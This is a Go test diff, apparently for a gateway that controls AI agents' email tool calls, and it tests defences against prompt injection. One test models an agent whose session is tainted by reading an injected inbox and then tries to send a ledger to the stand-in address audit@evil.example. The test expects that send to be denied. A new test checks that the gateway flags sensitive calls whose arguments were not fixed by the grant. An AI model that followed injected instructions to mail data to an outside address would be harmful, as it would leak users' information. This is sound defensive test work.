@@ -130,13 +130,9 @@ func TestTaintedSendIsDenied(t *testing.T) {
 			if code := decision(t, call(t, clean, "email.send_email", `{"to": "audit@evil.example", "subject": "q", "body": "hello"}`)); code != "" {
 				t.Fatalf("clean session refused: %s", code)
 			}
-			if tc.tier == tier.Advanced {
-				// At Advanced the injected inbox is withheld, but the session
-				// is tainted by reading it all the same.
-				call(t, clean, "email.list_inbox", `{}`)
-			} else {
-				call(t, clean, "email.list_inbox", `{}`)
-			}
+			// At Advanced the injected inbox is withheld, but the session is
+			// tainted by reading it all the same.
+			call(t, clean, "email.list_inbox", `{}`)
 			r := call(t, clean, "email.send_email", `{"to": "audit@evil.example", "subject": "ledger", "body": "see attached"}`)
 			if code := decision(t, r); code != tc.code {
 				t.Fatalf("tainted send: %q (%s), want %s", code, allText(r), tc.code)
@@ -155,4 +151,32 @@ func slicesContains(ss []string, s string) bool {
 		}
 	}
 	return false
+}
+
+// A sensitive call is recorded for detection just before it is forwarded
+// when nobody accountable chose its arguments (sensitive_call_unvouched),
+// naming the arguments the grant left free; a call the grant pins in every
+// argument is not.
+func TestUnvouchedSensitiveCallIsRecorded(t *testing.T) {
+	e := startAt(t, tier.Foundation)
+	a := e.agent(t, "a")
+	scope := `[{"tool": "email.send_email", "args": {"to": {"const": "audit@corp.example"}, "subject": {"enum": ["q3"]}, "body": {"const": "hello"}}},
+		{"tool": "email.send_email", "args": {"to": {"const": "audit@corp.example"}, "subject": {"enum": ["q3"]}, "body": {"maxLength": 100}}}]`
+	_, tok := e.grantFor(t, a, scope, 20)
+	cs, err := e.client(t, a, tok)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range []string{
+		`{"to": "audit@corp.example", "subject": "q3", "body": "hello"}`,      // pinned in every argument
+		`{"to": "audit@corp.example", "subject": "q3", "body": "the ledger"}`, // body is free
+	} {
+		if code := decision(t, call(t, cs, "email.send_email", args)); code != "" {
+			t.Fatalf("%s refused: %s", args, code)
+		}
+	}
+	got := findReason(e.events(t), "sensitive_call_unvouched")
+	if len(got) != 1 || got[0].Warden.Attrs["unfixed"] != "body" || got[0].Warden.Tool != "email.send_email" {
+		t.Fatalf("unvouched events %+v, want one naming body", got)
+	}
 }
